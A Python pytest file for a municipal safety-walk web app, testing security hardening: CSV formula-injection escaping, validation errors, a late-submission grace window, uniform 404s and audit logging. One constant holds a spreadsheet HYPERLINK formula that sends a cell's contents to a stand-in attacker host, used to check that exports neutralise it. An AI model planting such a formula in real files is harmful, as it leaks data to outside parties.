"""Issue 12's hardening: safe CSV cells, 400 for bad filters and input, audited reads of
originals, the grace window after a walk closes, and one 404 for "not yours" and "not there"."""

import csv
import hashlib
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select

from walkapp.auth.models import Role
from walkapp.events.models import Event, EventKind, SubjectType
from walkapp.observations.models import Observation, ObservationStatus
from walkapp.photos.models import Photo
from walkapp.privacy.models import AuditEntry, AuditKind
from walkapp.walks.models import WalkStatus

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Klicka")'


def _rows(response, delimiter=",") -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    text = response.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


# ----- item 5: CSV formula injection ------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(start):
    from walkapp.csvsafe import safe_cell  # here: the module is new with issue 12

    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Lampan är trasig") == "Lampan är trasig"
    # Numbers stay numbers, negative ones included.
    assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3


def test_a_formula_in_a_note_is_text_in_the_review_export(client, login_as, make_observation):
    make_observation(note=FORMULA, note_approved_at=datetime.now(UTC))  # a public note
    login_as(Role.SAFETY_CHIEF)
    rows = _rows(client.get("/review/export.csv"), delimiter=";")  # Swedish: ";", "59,37"
    header, row = rows[0], rows[1]
    assert row[header.index("note")] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    assert float(row[header.index("lat")].replace(",", ".")) > 0  # still plain numbers


def test_a_formula_in_an_action_title_is_text_in_the_actions_export(
    client, login, make_user, make_action
):
    action = make_action(title="-2+3 lampor")
    login(make_user(Role.SAFETY_CHIEF))
    rows = _rows(client.get("/actions/export.csv"), delimiter=";")
    header, row = rows[0], rows[1]
    assert row[header.index("id")] == str(action.id)
    assert row[header.index("title")] == "'-2+3 lampor"


def test_a_formula_in_a_commitment_is_text_in_the_report_csv(client, login_as, make_promise):
    promise = make_promise(commitments=[("@SUM(1;2) trafikkontroller", "traffic_control", 10)])
    login_as(Role.SAFETY_CHIEF)
    rows = _rows(client.get(f"/promises/{promise.id}/reports/2021-T1.csv"), delimiter=";")
    assert "'@SUM(1;2) trafikkontroller" in [row[1] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# ----- item 9: 400 for blank filters, impossible dates and deep JSON ------------------------


@pytest.mark.parametrize(
    "url",
    [
        f"/review/{page}?{name}=%20"
        for page in ("", "map.json", "export.csv")
        for name in ("status", "group", "kind", "light", "category", "severity")
    ]
    + ["/actions/?status=%20", "/actions/?priority=%20", "/actions/export.csv?status=%20"],
)
def test_a_blank_filter_is_a_clear_400(client, login_as, make_observation, url):
    make_observation()
    login_as(Role.SAFETY_CHIEF)
    response = client.get(url)
    assert response.status_code == 400
    body = response.get_data(as_text=True)
    assert "giltig" in body  # "is not a valid choice" / "the filters are not valid"


@pytest.fixture
def active_walk(make_walk):
    return make_walk(
        status=WalkStatus.ACTIVE,
        join_code="ABC234",
        join_code_expires_at=datetime.now(UTC) + timedelta(hours=2),
    )


def _join(client):
    response = client.post(
        "/join/abc-234", data={"display_name": "Anna", "represents": "resident", "consent": "y"}
    )
    assert response.status_code in (302, 303)


def _payload(recorded_at: datetime | str) -> dict:
    return {
        "client_uuid": str(uuid.uuid4()),
        "lat": 59.37445,
        "lon": 17.0319,
        "category": "lighting_missing",
        "severity": 2,
        "note": "Lampan är trasig.",
        "recorded_at": recorded_at if isinstance(recorded_at, str) else recorded_at.isoformat(),
    }


def _count(db) -> int:
    db.expire_all()
    return db.scalar(select(func.count(Observation.id)))


@pytest.mark.parametrize(
    "recorded_at", ["0001-01-01T00:30:00+01:00", "9999-12-31T23:30:00-01:00", "0001-01-01T00:00Z"]
)
def test_an_impossible_recording_time_is_422_not_500(client, db, active_walk, recorded_at):
    _join(client)
    response = client.post(f"/api/walks/{active_walk.id}/observations", json=_payload(recorded_at))
    assert response.status_code == 422
    assert response.json["error"]["field"] == "recorded_at"
    assert response.json["error"]["message"]
    assert _count(db) == 0


def test_json_nested_thousands_deep_is_400_not_500(client, db, active_walk):
    _join(client)
    body = "[" * 5000 + "]" * 5000
    for url in (
        f"/api/walks/{active_walk.id}/observations",
        f"/api/walks/{active_walk.id}/earlier/1/checks",
    ):
        response = client.post(url, data=body, content_type="application/json")
        assert response.status_code == 400
        assert response.json["error"]["message"]  # "The JSON is nested too deeply."
    assert _count(db) == 0


# ----- item 12: the grace window after a walk closes ---------------------------------------


def _close(db, walk, ended_ago: timedelta) -> None:
    walk.status = WalkStatus.CLOSED
    walk.ends_at = datetime.now(UTC) - ended_ago
    db.commit()


def test_an_observation_dated_years_back_is_refused(client, db, active_walk):
    _join(client)
    url = f"/api/walks/{active_walk.id}/observations"
    years_back = _payload(datetime(2015, 5, 1, 12, tzinfo=UTC))
    response = client.post(url, json=years_back)  # while the walk is still active
    assert response.status_code == 422 and response.json["error"]["field"] == "recorded_at"
    assert response.json["error"]["message"]  # "...recorded before the walk started."
    _close(db, active_walk, timedelta(hours=1))
    assert client.post(url, json=years_back).status_code == 422
    assert _count(db) == 0


def test_recorded_during_the_walk_and_sent_an_hour_after_it_closed_is_taken(
    client, db, active_walk
):
    _join(client)
    _close(db, active_walk, timedelta(hours=1))
    during = _payload(datetime.now(UTC) - timedelta(hours=1, minutes=20))
    response = client.post(f"/api/walks/{active_walk.id}/observations", json=during)
    assert response.status_code == 201
    assert _count(db) == 1


def test_a_walk_that_ran_past_its_planned_end_keeps_what_was_pinned_until_it_closed(
    client, db, active_walk
):
    """The window ends when the leader closed the walk, not at the end planned beforehand."""
    _join(client)
    closed_at = datetime.now(UTC) - timedelta(minutes=10)
    _close(db, active_walk, timedelta(minutes=40))  # planned to end half an hour before
    db.add(
        Event(
            subject_type=SubjectType.WALK,
            subject_id=active_walk.id,
            kind=EventKind.STATUS_CHANGED,
            from_status="active",
            to_status="closed",
            at=closed_at,
        )
    )
    db.commit()
    late_pin = _payload(closed_at - timedelta(minutes=5))
    response = client.post(f"/api/walks/{active_walk.id}/observations", json=late_pin)
    assert response.status_code == 201
    after = _payload(closed_at + timedelta(minutes=5))
    assert client.post(f"/api/walks/{active_walk.id}/observations", json=after).status_code == 422
    assert _count(db) == 1


def test_sent_after_the_grace_window_is_refused(app, client, db, active_walk):
    _join(client)
    _close(db, active_walk, timedelta(hours=49))
    during = _payload(datetime.now(UTC) - timedelta(hours=50))
    url = f"/api/walks/{active_walk.id}/observations"
    response = client.post(url, json=during)
    assert response.status_code == 422 and response.json["error"]["field"] == "walk"
    assert "48" in response.json["error"]["message"]  # "closed more than 48 hours ago"
    assert _count(db) == 0
    app.config["LATE_OBSERVATION_GRACE_HOURS"] = 72  # a setting
    assert client.post(url, json=during).status_code == 201


def test_recorded_after_the_walk_closed_is_refused(client, db, active_walk):
    _join(client)
    _close(db, active_walk, timedelta(hours=2))
    response = client.post(
        f"/api/walks/{active_walk.id}/observations", json=_payload(datetime.now(UTC))
    )
    assert response.status_code == 422 and response.json["error"]["field"] == "walk"
    assert _count(db) == 0


# ----- item 13: "not yours" and "not there" answer alike ------------------------------------


def _main(response) -> str:
    """What the page says, without the frame around it (navigation, footer)."""
    page = response.get_data(as_text=True)
    return page.split('<main id="main"', 1)[1].split("</main>", 1)[0]


def test_merging_another_municipalitys_observation_answers_as_a_missing_one(
    client, login_as, make_walk, make_observation, other_municipality, db
):
    login_as(Role.SAFETY_CHIEF)
    survivor = make_observation()
    foreign = make_observation(walk=make_walk(municipality=other_municipality))
    url = f"/observations/{survivor.id}/merge"
    missing = client.post(url, data={"merge_ids": [foreign.id + 1000]})
    theirs = client.post(url, data={"merge_ids": [foreign.id]})
    assert theirs.status_code == missing.status_code == 404
    assert _main(theirs) == _main(missing)
    db.expire_all()
    assert foreign.status == ObservationStatus.RECEIVED and foreign.duplicate_of_id is None


def test_assigning_to_a_person_elsewhere_answers_as_a_missing_one(
    client, login, make_user, make_action, make_organisation, other_municipality, db
):
    action = make_action()
    handler = login(make_user(Role.HANDLER, organisation=action.organisation))
    other_organisation = make_user(Role.HANDLER)  # same municipality, another organisation
    foreign = make_user(
        Role.HANDLER,
        municipality=other_municipality,
        organisation=make_organisation(name="Norrköping Vatten", municipality=other_municipality),
    )
    url = f"/actions/{action.id}/assign"
    missing = client.post(url, data={"assignee_id": foreign.id + 1000})
    assert missing.status_code == 404
    for someone in (foreign, other_organisation):
        response = client.post(url, data={"assignee_id": someone.id})
        assert response.status_code == 404
        assert _main(response) == _main(missing)
    db.expire_all()
    assert action.assignee_id is None
    assert client.post(url, data={"assignee_id": handler.id}).status_code == 303


# ----- item 11: staff reads of originals are logged ----------------------------------------


def _audit_log(db) -> list[tuple[AuditKind, int | None, str, str]]:
    db.expire_all()
    entries = db.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
    return [(e.kind, e.user_id, e.subject, e.detail) for e in entries]


def test_staff_reads_of_original_notes_and_photos_are_logged_but_not_a_participants_own(
    app, client, db, active_walk, login, make_user, make_photo_bytes
):
    _join(client)
    payload = _payload(datetime.now(UTC))
    client.post(f"/api/walks/{active_walk.id}/observations", json=payload)
    data = make_photo_bytes()
    digest = hashlib.sha256(data).hexdigest()
    url = f"/api/walks/{active_walk.id}/observations/{payload['client_uuid']}/photos/{digest}"
    assert client.put(url, data=data, content_type="image/jpeg").status_code == 201
    photo = db.scalar(select(Photo))
    observation = db.scalar(select(Observation))
    for variant in ("display", "thumb"):  # the participant's own: not logged
        assert client.get(f"/photos/{photo.id}/{variant}.jpg").status_code == 200
    assert _audit_log(db) == []

    chief = make_user(Role.SAFETY_CHIEF)
    staff = app.test_client()
    login(chief, test_client=staff)
    assert staff.get(f"/review/observations/{observation.id}.json").status_code == 200
    assert staff.get("/review/").status_code == 200
    for variant in ("display", "thumb", "public", "public-thumb"):
        staff.get(f"/photos/{photo.id}/{variant}.jpg")
    viewed = AuditKind.VIEWED
    assert _audit_log(db) == [
        (viewed, chief.id, f"observation {observation.id}", "map popup"),
        (viewed, chief.id, "review list (1 observations)", f"observations {observation.id}"),
        (viewed, chief.id, f"photo {photo.id}", "display"),
        (viewed, chief.id, f"photo {photo.id}", "thumb"),
    ]
